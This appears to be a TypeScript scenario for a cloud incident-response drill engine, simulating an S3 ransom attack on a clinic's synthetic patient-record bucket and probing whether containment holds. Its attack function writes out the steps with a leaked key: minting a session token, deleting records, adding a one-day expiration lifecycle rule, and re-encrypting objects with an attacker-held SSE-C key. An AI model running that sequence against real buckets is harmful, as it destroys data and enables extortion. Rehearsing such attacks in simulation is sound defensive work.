import {
  DeleteObjectCommand,
  GetObjectCommand,
  PutBucketLifecycleConfigurationCommand,
  PutObjectCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import { GetSessionTokenCommand, STSClient } from '@aws-sdk/client-sts';
import { expiring } from '../../aws/s3/lifecycle.ts';
import type { Credentials, World } from '../../aws/world.ts';
import type { Rehearsal } from '../../engine/rehearsal.ts';
import { type Scenario, status } from '../../engine/scenario.ts';
import { credentialsOf } from '../stolen.ts';
import finding from './finding.json' with { type: 'json' };

const clinic = '111122223333';
const region = 'us-east-1';
const bucket = 'northwind-patient-records';
const record = (n: number) => `records/2026/11/intake-000${n}.json`;
const leakedKey = 'AKIAIOSFODNN7EXAMPLE';
const app = `arn:aws:iam::${clinic}:role/records-app`;
const body = '{"synthetic":true}';
/** a key of the attacker's own, which nobody else has (32 bytes) */
const ransomKey = { SSECustomerAlgorithm: 'AES256' as const, SSECustomerKey: 'synthetic-key-of-the-attacker-32' };

const on = (Action: string[]) => ({
  Statement: [{ Effect: 'Allow', Action, Resource: [`arn:aws:s3:::${bucket}`, `arn:aws:s3:::${bucket}/*`] }],
});
/** the clinic's own rule, old versions after seven years; it stays */
const archive = {
  ID: 'archive-old-records',
  Filter: { Prefix: 'records/' },
  Status: 'Enabled' as const,
  Transitions: [{ Days: 90, StorageClass: 'GLACIER' as const }],
};
const wipe = {
  ID: 'cleanup',
  Filter: { Prefix: '' },
  Status: 'Enabled' as const,
  Expiration: { Days: 1 },
  NoncurrentVersionExpiration: { NoncurrentDays: 1 },
};

function seed(world: World): void {
  const account = world.account(clinic);
  account.addUser({
    name: 'archive-sync',
    inline: { archive: on(['s3:GetObject', 's3:PutObject', 's3:DeleteObject', 's3:PutLifecycleConfiguration']) },
    accessKeys: [{ id: leakedKey }],
  });
  account.addRole({
    name: 'records-app',
    trust: {
      Statement: [{ Effect: 'Allow', Principal: { Service: 'ecs-tasks.amazonaws.com' }, Action: 'sts:AssumeRole' }],
    },
    inline: { records: on(['s3:GetObject', 's3:PutObject']) },
  });
  account.addBucket({
    name: bucket,
    region,
    versioning: 'Enabled',
    publicAccessBlock: {
      BlockPublicAcls: true,
      IgnorePublicAcls: true,
      BlockPublicPolicy: true,
      RestrictPublicBuckets: true,
    },
    lifecycle: { Rules: [archive], TransitionDefaultMinimumObjectSize: 'varies_by_storage_class' },
    tags: { DataClassification: 'phi' },
    objects: [1, 2, 3, 4, 5, 6].map((n) => ({ key: record(n), body: `{"synthetic":true,"record":${n}}` })),
  });
  account.addTrail({ name: 'organization-trail', homeRegion: region, bucket: 'northwind-trail', multiRegion: true });
}

const s3 = (drill: Rehearsal, credentials: Credentials) => drill.aws.client(S3Client, { region, credentials });
const asThief = (drill: Rehearsal) => s3(drill, drill.world.keyCredentials(leakedKey));
const asApp = (drill: Rehearsal) => s3(drill, drill.world.roleCredentials(app, 'records-app'));

/** The session token that the attacker has made with the leaked key. */
const minted = new WeakMap<Rehearsal, Credentials>();
function session(drill: Rehearsal): Credentials {
  const made = minted.get(drill);
  if (!made) throw new Error('the attack has not run yet');
  return made;
}

async function attack(drill: Rehearsal): Promise<void> {
  const sts = drill.aws.client(STSClient, { region, credentials: drill.world.keyCredentials(leakedKey) });
  const { Credentials: given } = await sts.send(new GetSessionTokenCommand({ DurationSeconds: 129_600 }));
  minted.set(drill, credentialsOf(given));
  const thief = asThief(drill);
  for (const n of [5, 6]) await thief.send(new DeleteObjectCommand({ Bucket: bucket, Key: record(n) }));
  await thief.send(
    new PutBucketLifecycleConfigurationCommand({
      Bucket: bucket,
      LifecycleConfiguration: { Rules: [archive, wipe] },
      TransitionDefaultMinimumObjectSize: 'varies_by_storage_class',
    }),
  );
  await thief.send(new PutObjectCommand({ Bucket: bucket, Key: record(4), Body: 'pay', ...ransomKey }));
  // GuardDuty publishes every 15 minutes, and learns of S3 data events later than that
  await drill.clock.runFor(1750);
}

/** One call on an object, which is put back as it was: what a probe leaves behind would be no undo. */
async function tried(drill: Rehearsal, key: string, call: Promise<unknown>): Promise<number> {
  const objects = drill.world.bucket(bucket)?.objects;
  const before = [...(objects?.get(key) ?? [])];
  try {
    return await status(call);
  } finally {
    if (before.length > 0) objects?.set(key, before);
    else objects?.delete(key);
  }
}

const overwritten = (drill: Rehearsal, by: S3Client) =>
  tried(drill, record(2), by.send(new PutObjectCommand({ Bucket: bucket, Key: record(2), Body: 'pay', ...ransomKey })));
const deleted = (drill: Rehearsal, by: S3Client) =>
  tried(drill, record(3), by.send(new DeleteObjectCommand({ Bucket: bucket, Key: record(3) })));

/** What S3's own run would take in two days, as an answer of AWS: 200 it goes, 403 it stays. */
async function expired(drill: Rehearsal, key: string): Promise<number> {
  const stored = drill.world.bucket(bucket);
  return stored && expiring(stored, drill.clock.now().add({ hours: 48 })).includes(key) ? 200 : 403;
}

const scenario: Scenario = {
  id: 'bucket-destruction',
  title: 'Somebody destroys patient records with a leaked key',
  story:
    'The key of archive-sync is in the wrong hands. Since 02:52 UTC its holder deletes records, has set all others to expire tomorrow, and writes one after the other anew under a key that only he has, to ask for ransom. Half an hour later the finding arrives.',
  start: '2026-11-21T02:52:31Z',
  seed,
  attack,
  events: () => [finding],
  probes: [
    { name: 'the leaked key deletes a record', kind: 'attack', call: (drill) => deleted(drill, asThief(drill)) },
    {
      name: 'the session token made with it deletes a record',
      kind: 'attack',
      call: (drill) => deleted(drill, s3(drill, session(drill))),
    },
    { name: 'S3 expires the records tomorrow', kind: 'attack', call: (drill) => expired(drill, record(1)) },
    {
      name: 'the leaked key encrypts a record for ransom',
      kind: 'attack',
      call: (drill) => overwritten(drill, asThief(drill)),
    },
    {
      name: "even with the app's credentials a record is encrypted for ransom",
      kind: 'attack',
      call: (drill) => overwritten(drill, asApp(drill)),
    },
    {
      name: "the clinic's app reads a record",
      kind: 'care',
      call: (drill) => status(asApp(drill).send(new GetObjectCommand({ Bucket: bucket, Key: record(1) }))),
    },
    {
      name: "the clinic's app writes a record",
      kind: 'care',
      call: (drill) =>
        tried(
          drill,
          record(9),
          asApp(drill).send(new PutObjectCommand({ Bucket: bucket, Key: record(9), Body: body })),
        ),
    },
    {
      name: "the clinic's own lifecycle rule, which only archives, goes on",
      kind: 'care',
      call: async (drill) => {
        const rules = (drill.world.bucket(bucket)?.lifecycle?.Rules ?? []) as unknown as (typeof archive)[];
        return rules.some(({ ID, Status }) => ID === archive.ID && Status === 'Enabled') ? 200 : 404;
      },
    },
  ],
  people: ({ approval }) =>
    approval.startsWith('restore-')
      ? { after: 60, person: 1, decision: 'approve', reason: 'rehearsal: the undo is practised too' }
      : { after: 45, person: 0, decision: 'approve', reason: 'archive-sync never deletes, and never at three' },
  restores: true,
  accounts: [clinic],
};
export default scenario;
